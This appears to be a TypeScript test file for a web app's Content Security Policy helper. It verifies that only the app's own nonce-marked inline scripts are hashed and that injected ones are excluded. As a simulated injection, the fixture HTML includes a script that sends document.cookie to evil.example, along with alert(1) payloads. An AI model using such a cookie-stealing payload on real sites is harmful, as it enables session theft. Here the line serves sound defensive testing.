import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { reloadConfig } from "../../app/lib/config.server.ts";
import { contentSecurityPolicy, newScriptMark, ownInlineScripts, scriptHashes } from "../../app/lib/content-security-policy.server.ts";

const sha = (body: string) => `sha256-${createHash("sha256").update(body, "utf8").digest("base64")}`;

describe("the policy's script hashes", () => {
  const mark = newScriptMark();
  const html = [
    "<!DOCTYPE html><html><head>",
    `<link rel="modulepreload" href="/assets/entry.js" nonce="${mark}"/>`,
    "</head><body>",
    // Injected into the page (say, through an HTML injection in some field).
    "<p>Hello</p><script>fetch('https://evil.example/?c='+document.cookie)</script>",
    '<script type="application/ld+json">{"@type":"Event"}</script>',
    `<script nonce="${mark}">window.__reactRouterContext = {};</script>`,
    `<script type="module" async="" nonce="${mark}">import "/assets/entry.js";</script>`,
    '<script src="/assets/x.js"></script>',
    "</body></html>",
  ].join("");

  it("hashes only the scripts the app wrote (marked for this render), not an injected one", () => {
    const own = ownInlineScripts(html, mark);
    expect(own.scripts).toEqual(["window.__reactRouterContext = {};", 'import "/assets/entry.js";']);
    const policy = contentSecurityPolicy({ scriptHashes: scriptHashes(own.scripts) });
    expect(policy).toContain(sha("window.__reactRouterContext = {};"));
    expect(policy).not.toContain(sha("fetch('https://evil.example/?c='+document.cookie)"));
    // Exactly two hashes.
    expect(policy.match(/'sha256-/g)).toHaveLength(2);
  });

  it("gives each script its own hash when scripts repeat, when many differ and when they are long", () => {
    const constant = "window.__reactRouterContext.streamController.close();";
    expect(scriptHashes([constant, constant])).toEqual([sha(constant), sha(constant)]);
    // More short scripts than are remembered, then the first ones again.
    const many = Array.from({ length: 600 }, (_, i) => `import "/assets/route-${i}.js";`);
    expect(scriptHashes(many)).toEqual(many.map(sha));
    expect(scriptHashes(many.slice(0, 3))).toEqual(many.slice(0, 3).map(sha));
    const data = `window.__reactRouterContext.streamController.enqueue(${JSON.stringify("x".repeat(5000))});`;
    expect(scriptHashes([data, data.replace("x", "y")])).toEqual([sha(data), sha(data.replace("x", "y"))]);
  });

  it("removes the mark from the page, so it is served and cached without it", () => {
    const own = ownInlineScripts(html, mark);
    expect(own.html).not.toContain(mark);
    expect(own.html).not.toContain("nonce=");
    expect(own.html).toContain("<script>window.__reactRouterContext = {};</script>");
    // Nothing else of the page changes.
    expect(own.html).toBe(html.replaceAll(` nonce="${mark}"`, ""));
  });

  it("joined, runs the app's classic scripts as one in their last element, in order, and leaves the others empty; not an injected or module one", () => {
    const page = [
      "<body><main>Hi</main>",
      `<script nonce="${mark}">(k=>{scrollTo(0,1)})("x")</script>`,
      `<script nonce="${mark}">window.__reactRouterContext = { streamController: stream }; // a comment</script>`,
      `<script type="module" async="" nonce="${mark}">import "/assets/entry.js";</script>`,
      "<script>alert(1)</script>",
      `<!--$--><script nonce="${mark}">window.__reactRouterContext.streamController.enqueue("[1]");</script>`,
      `<script nonce="${mark}">(()=>{start()})()</script>`,
      "</body>",
    ].join("");
    const own = ownInlineScripts(page, mark, { join: true });
    const joined = ['(k=>{scrollTo(0,1)})("x")', "window.__reactRouterContext = { streamController: stream }; // a comment", 'window.__reactRouterContext.streamController.enqueue("[1]");', "(()=>{start()})()"].join("\n;");
    expect(own.scripts.sort()).toEqual([joined, 'import "/assets/entry.js";'].sort());
    expect(own.html).toBe(
      [
        "<body><main>Hi</main><script></script><script></script>",
        '<script type="module" async="">import "/assets/entry.js";</script><script>alert(1)</script>',
        `<!--$--><script></script><script>${joined}</script></body>`,
      ].join(""),
    );
    // Run as one script, the texts do what they did one after the other (a line comment
    // ends at the line break; a call after a parenthesis is not applied to it).
    const done: string[] = [];
    new Function("scrollTo", "window", "stream", "start", joined)(
      () => done.push("scroll"),
      {},
      { enqueue: () => done.push("data") },
      () => done.push("start"),
    );
    expect(done).toEqual(["scroll", "data", "start"]);
    const policy = contentSecurityPolicy({ scriptHashes: scriptHashes(own.scripts) });
    expect(policy.match(/'sha256-/g)).toHaveLength(2);
    expect(policy).toContain(sha(joined));
    expect(policy).not.toContain(sha("alert(1)"));
  });

  it("a script that names another mark (guessed or from another page) is not the app's", () => {
    const forged = `<script nonce="${newScriptMark()}">alert(1)</script>`;
    expect(ownInlineScripts(forged, mark).scripts).toEqual([]);
    expect(newScriptMark()).not.toBe(newScriptMark());
  });
});

describe("the policy's image sources", () => {
  it("allow this site only, and the origin of S3_PUBLIC_BASE_URL when uploaded images are fetched from there", () => {
    try {
      reloadConfig({});
      expect(contentSecurityPolicy()).toContain("img-src 'self' data: blob:;");
      reloadConfig({ S3_BUCKET: "millbrook", S3_PUBLIC_BASE_URL: "https://files.example.org/millbrook" });
      expect(contentSecurityPolicy()).toContain("img-src 'self' data: blob: https://files.example.org;");
    } finally {
      reloadConfig();
    }
  });
});

describe("the policy's style hashes (a public page's critical CSS)", () => {
  it("allows <style> elements by those hashes only, and style attributes as before", () => {
    const policy = contentSecurityPolicy({ styleHashes: ["sha256-abc="] });
    expect(policy).toContain("style-src-elem 'self' 'sha256-abc='");
    expect(policy).toContain("style-src-attr 'unsafe-inline'");
    expect(policy).not.toMatch(/style-src-elem[^;]*unsafe-inline/);
  });

  it("adds no style directive to a page without inline style (staff screens)", () => {
    expect(contentSecurityPolicy()).not.toContain("style-src-elem");
  });
});
